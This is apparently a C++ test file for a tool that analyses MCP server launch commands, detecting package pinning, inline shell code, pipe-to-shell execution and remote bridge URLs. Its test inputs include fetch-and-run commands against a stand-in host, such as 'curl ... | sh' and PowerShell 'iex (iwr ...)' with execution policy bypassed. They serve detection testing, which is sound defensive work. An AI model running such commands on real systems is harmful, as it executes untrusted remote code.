    info = launch("cmd", {"/k", "curl -s https://x.example | sh"});
    CHECK(info.inline_shell);
    CHECK(info.pipe_to_shell);

    info = launch("cmd", {"/c"});
    CHECK(info.launcher == "shell");
    CHECK_FALSE(info.inline_shell);
  }

  TEST_CASE("PowerShell") {
    auto info = launch("powershell", {"-NoProfile", "-ExecutionPolicy", "Bypass", "-Command",
                                      "iex (iwr https://x.example/a.ps1)"});
    CHECK(info.launcher == "shell");
    CHECK(info.inline_shell);
    CHECK(info.shell_code_token == 5);
    CHECK(info.pipe_to_shell);

    info = launch("pwsh", {"-c", "Get-Date"});
    CHECK(info.inline_shell);
    CHECK_FALSE(info.pipe_to_shell);

    info = launch("pwsh.exe", {"-NoLogo", "-Comm", "irm https://x.example | iex"});
    CHECK(info.inline_shell);
    CHECK(info.pipe_to_shell);

    info =
        launch("powershell", {"-EncodedCommand", encode_powershell("iex (iwr https://x.example)")});
    CHECK(info.inline_shell);
    CHECK(info.shell_code_token == 2);
    CHECK(info.pipe_to_shell);

    info = launch("pwsh", {"-enc", encode_powershell("Write-Output hello")});
    CHECK(info.inline_shell);
    CHECK_FALSE(info.pipe_to_shell);

    info = launch("pwsh", {"-File", "server.ps1"});
    CHECK_FALSE(info.inline_shell);

    info = launch("powershell", {"Get-Process"});
    CHECK(info.inline_shell);

    info = launch("pwsh", {"server.ps1"});
    CHECK_FALSE(info.inline_shell);
  }

  TEST_CASE("ruby -e, perl -e, php -r") {
    auto info = launch("ruby", {"-e", "system('id')"});
    CHECK(info.launcher == "binary");
    CHECK(info.inline_shell);
    CHECK(info.shell_code_token == 2);
    info = launch("perl", {"-E", "say 1"});
    CHECK(info.inline_shell);
    info = launch("php", {"-r", "echo 1;"});
    CHECK(info.inline_shell);
    info = launch("ruby", {"server.rb"});
    CHECK_FALSE(info.inline_shell);
  }

  TEST_CASE("env, exec and leading assignments are looked through") {
    auto info = launch("/usr/bin/env", {"npx", "-y", "server"});
    CHECK(info.launcher == "npx");
    CHECK(info.package == "server");
    CHECK(info.package_token == 3);

    info = launch("env", {"-i", "-u", "HOME", "FOO=1", "uvx", "tool==1.0.0"});
    CHECK(info.launcher == "uvx");
    CHECK(info.pinned);
    CHECK(info.package_token == 6);

    info = launch("env", {"-S", "deno run -A npm:server@1.0.0"});
    CHECK(info.launcher == "deno");
    CHECK(info.package == "server");
    CHECK(info.pinned);
    CHECK(info.package_token == 2);

    info = launch("FOO=bar NODE_ENV=production npx -y server");
    CHECK(info.launcher == "npx");
    CHECK(info.package_token == 4);

    info = launch("env", {"FOO=1"});
    CHECK(info.launcher == "binary");
  }

  TEST_CASE("wrappers nested beyond reason stop quietly") {
    std::string code = "npx -y deep";
    for (int n = 0; n < 12; ++n) code = "sh -c '" + code + "'";
    const auto info = launch("sh", {"-c", code});
    CHECK(info.inline_shell);
  }
}

// ---------------------------------------------------------------------------------------------
TEST_SUITE("derive.launch.bridge") {
  TEST_CASE("mcp-remote") {
    auto info = launch("npx", {"-y", "mcp-remote", "https://remote.example.net/sse"});
    CHECK(info.package == "mcp-remote");
    CHECK(info.bridge_url == "https://remote.example.net/sse");
    CHECK(info.bridge_url_token == 3);

    info = launch("npx", {"mcp-remote@0.1.16", "https://remote.example.net/mcp", "--header",
                          "Authorization: Bearer ${TOKEN}"});
    CHECK(info.version == "0.1.16");
    CHECK(info.pinned);
    CHECK(info.bridge_url_token == 2);

    info = launch("npx",
                  {"-y", "mcp-remote", "--transport", "sse-only", "HTTP://REMOTE.example.net/sse"});
    CHECK(info.bridge_url == "HTTP://REMOTE.example.net/sse");
    CHECK(info.bridge_url_token == 5);
  }

  TEST_CASE("supergateway: only --sse and --streamableHttp name a remote") {
    auto info = launch("npx", {"-y", "supergateway", "--sse", "https://remote.example.net/sse"});
    CHECK(info.bridge_url == "https://remote.example.net/sse");
    CHECK(info.bridge_url_token == 4);

    info = launch("npx", {"supergateway", "--streamableHttp=https://remote.example.net/mcp"});
    CHECK(info.bridge_url == "https://remote.example.net/mcp");
    CHECK(info.bridge_url_token == 2);

    info = launch("npx", {"-y", "supergateway", "--stdio", "npx -y server", "--port", "8000",
                          "--baseUrl", "http://localhost:8000"});
    CHECK(info.bridge_url.empty());
    CHECK(info.bridge_url_token == -1);
  }

  TEST_CASE("mcp-proxy (PyPI) takes the URL as a positional") {
    auto info = launch("uvx", {"mcp-proxy", "http://localhost:8080/sse"});
    CHECK(info.bridge_url == "http://localhost:8080/sse");
    CHECK(info.bridge_url_token == 2);
    info = launch("uvx", {"mcp-proxy", "--transport", "streamablehttp", "https://r.example/mcp"});
    CHECK(info.bridge_url == "https://r.example/mcp");
  }

  TEST_CASE("bridges behind wrappers") {
    auto info = launch("cmd", {"/c", "npx", "-y", "mcp-remote", "https://r.example/sse"});
    CHECK(info.launcher == "npx");
    CHECK(info.bridge_url == "https://r.example/sse");
    CHECK(info.bridge_url_token == 5);

    info = launch("sh", {"-c", "npx -y mcp-remote https://r.example/sse"});
    CHECK(info.bridge_url == "https://r.example/sse");
    CHECK(info.bridge_url_token == 2);
  }

  TEST_CASE("other packages with URLs are not bridges") {
    auto info = launch("npx", {"@modelcontextprotocol/inspector", "https://r.example/sse"});
    CHECK(info.bridge_url.empty());
    info = launch("npx", {"-y", "mcp-remote"});
    CHECK(info.bridge_url.empty());
  }
}

// ---------------------------------------------------------------------------------------------
TEST_SUITE("derive.launch.robustness") {
  TEST_CASE("anything else is a binary") {
    for (std::string command : {"mcp-server-azuredevops", "${extensionPath}/osv-scanner", "./specd",
                                "dotnet", "gh", "/home/tom/bin/tool", ""}) {
      CAPTURE(command);
      const auto info = launch(command, {"--x"});
      CHECK(info.launcher == "binary");
      CHECK(info.package.empty());
      CHECK_FALSE(info.pinned);
      CHECK_FALSE(info.inline_shell);
    }
  }

  TEST_CASE("every truncation of real command lines is handled") {
    const std::vector<std::vector<std::string>> lines = {
        {"npx", "-y", "-p", "pkg@1.0.0", "--package", "x", "bin", "a"},
        {"docker", "run", "-itv", "/a:/b", "--mount", "type=bind,src=/c", "-e", "X=1",
         "img@sha256:", "x"},
        {"uvx", "--from", "git+https://h/r@", "--with", "y", "tool"},
        {"cmd", "/c", "npx", "-y", "mcp-remote", "https://r.example"},
        {"powershell", "-ExecutionPolicy", "-EncodedCommand", "QQBBAA=="},
        {"bash", "-o", "-c", "x"},
        {"env", "-u", "-S", "a b"},
        {"deno", "run", "--config", "jsr:", "https://h"},
        {"pipx", "run", "--spec", "=="},
        {"npx", "supergateway", "--sse"},
    };
    for (const auto& line : lines) {
      for (size_t n = 0; n <= line.size(); ++n) {
        std::vector<std::string> prefix(line.begin(),
                                        line.begin() + static_cast<std::ptrdiff_t>(n));
        const std::string command = prefix.empty() ? "" : prefix.front();
        std::vector<std::string> args;
        if (prefix.size() > 1) args.assign(prefix.begin() + 1, prefix.end());
        const auto tokens = launch_tokens(command, args);
        const auto info = analyse_launch(tokens);
        CHECK(info.package_token < static_cast<int>(tokens.size()));
        CHECK(info.shell_code_token < static_cast<int>(tokens.size()));
        CHECK(info.bridge_url_token < static_cast<int>(tokens.size()));
        for (int k : info.package_args) CHECK(k < static_cast<int>(tokens.size()));
      }
    }
  }
}

}  // namespace fermata::derive
